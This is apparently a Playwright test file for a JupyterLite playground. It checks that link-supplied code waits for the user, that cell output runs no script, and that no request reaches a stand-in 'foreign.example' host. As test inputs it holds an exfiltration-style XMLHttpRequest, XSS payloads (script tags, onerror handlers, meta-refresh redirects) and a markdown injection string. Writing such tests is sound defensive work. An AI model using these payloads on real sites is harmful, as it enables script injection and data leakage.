"""No link runs code, what runs in JupyterLite's kernel reaches no other host, and neither does what
it shows."""

from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.site.playground import BOOT_MS
from tests.site.visits import Visit

CODE = """
import js
found = []
for name in ("caches", "indexedDB", "Worker", "SharedWorker"):
    if hasattr(js, name):
        found.append(name)
for name in ("storage", "locks"):
    if hasattr(js.navigator, name):
        found.append(name)
asked = js.XMLHttpRequest.new()
asked.open("GET", "http://foreign.example/leak", False)
try:
    asked.send()
    found.append("another host")
except Exception:
    pass
print("ran", found)
""".strip()
PROMPT = ".jp-CodeConsole-promptCell .cm-content"
OUTPUT = ".jp-CodeConsole .jp-OutputArea-output"


@pytest.mark.parametrize("mark", ["?", "#"])
def test_code_in_a_link_waits_for_run(visit: Visit, at_root: str, mark: str) -> None:
    page = visit.page
    wanted = "kernel=python&toolbar=1&execute=1&code=" + quote(CODE)
    page.goto(f"{at_root}repl/index.html{mark}{wanted}")
    expect(page.locator(PROMPT)).to_contain_text("another host", timeout=BOOT_MS)
    # Python is there, and has not been asked.
    expect(
        page.locator(".jp-CodeConsole .jp-RawCell, .jp-CodeConsole .jp-CodeCell")
    ).not_to_have_count(0)
    expect(page.locator(OUTPUT).filter(has_text="ran")).to_have_count(0)
    page.locator(PROMPT).click()
    page.keyboard.press("Shift+Enter")
    ran = page.locator(OUTPUT).filter(has_text="ran")
    expect(ran).to_have_text("ran []", timeout=BOOT_MS)
    assert [one for one in visit.foreign_requests() if "foreign" in one] == []
    visit.may_violate = True  # it was told what it tried


READ = """async () => {
    const asked = (request) => new Promise((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
    });
    const [{name}] = await indexedDB.databases();
    const base = await asked(indexedDB.open(name));
    const [found] = await asked(base.transaction("files").objectStore("files").getAll());
    return found.content.cells;
}"""


def test_a_links_notebook_is_kept_when_the_reader_says_so(visit: Visit, at_root: str) -> None:
    page = visit.page
    page.route("**/notebooks/index.html*", lambda route: route.fulfill(body="<p>opened"))
    forged = "x) **Read** [this](http://foreign.example/) <b> `y` \\ ![z](leak.png"
    page.goto(f"{at_root}notebook.html#code={quote(CODE)}&from={quote(forged)}")
    expect(page.locator("#notebook-code")).to_have_text(CODE)
    told = page.locator("#notebook-message")
    expect(told).to_contain_text("nothing runs before you run it there")
    expect(told).to_contain_text("can read and change the notebooks that are kept in this browser")
    assert page.evaluate("indexedDB.databases()") == []
    page.get_by_role("button", name="Make the notebook").click()
    page.wait_for_url("**/notebooks/index.html?path=playground-run.ipynb")
    about, code, *_ = page.evaluate(READ)
    assert code["source"] == CODE
    link = about["source"].split("[this state of the playground](")[1].split(")")[0]
    assert link.startswith(f"{at_root}#x%29")
    assert "foreign.example/%29" in link
    assert set(link) & set("()[]<>*`!\\ ") == set()


# What a cell may show of itself: none of it runs, and none of it leads the page away.
OUTPUTS = [
    "Javascript(\"window.ran = 'javascript'\")",
    "HTML(\"<script>window.ran = 'script'</script>\")",
    "HTML(\"<img src='data:,' onerror=\\\"window.ran = 'handler'\\\">\")",
    "HTML(\"<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>\")",
    "HTML(\"<meta http-equiv=refresh content='0;url=http://foreign.example/leak'>\")",
    "HTML(\"<b><MeTa/http-equiv=refresh content='0;url=http://foreign.example/leak'></b>\")",
    "HTML(\"<link rel=stylesheet href='http://foreign.example/leak'>\")",
    "HTML(\"<iframe src='http://foreign.example/leak'></iframe>\")",
    "HTML(\"<img src='http://foreign.example/leak'><p>shown</p>\")",
]
SHOW = "from IPython.display import HTML, Javascript, display\ndisplay({})\n'all of it'"


def test_what_a_cell_shows_runs_nothing_and_leads_nowhere(visit: Visit, at_root: str) -> None:
    page = visit.page
    code = quote(SHOW.format(", ".join(OUTPUTS)))
    page.goto(f"{at_root}repl/index.html?kernel=python&code={code}")
    expect(page.locator(PROMPT)).to_contain_text("display", timeout=BOOT_MS)
    page.locator(PROMPT).click()
    page.keyboard.press("Shift+Enter")
    expect(page.locator(OUTPUT).filter(has_text="all of it")).to_be_visible(timeout=BOOT_MS)
    expect(page.locator(OUTPUT).locator("p")).to_have_text("shown")
    page.wait_for_timeout(2_000)  # for a page that is led away
    expect(page.locator(OUTPUT).filter(has_text="all of it")).to_be_visible()
    assert page.evaluate("window.ran ?? null") is None
    assert [one for one in visit.foreign_requests() if "foreign" in one] == []
    visit.may_violate = True  # it was told what it tried
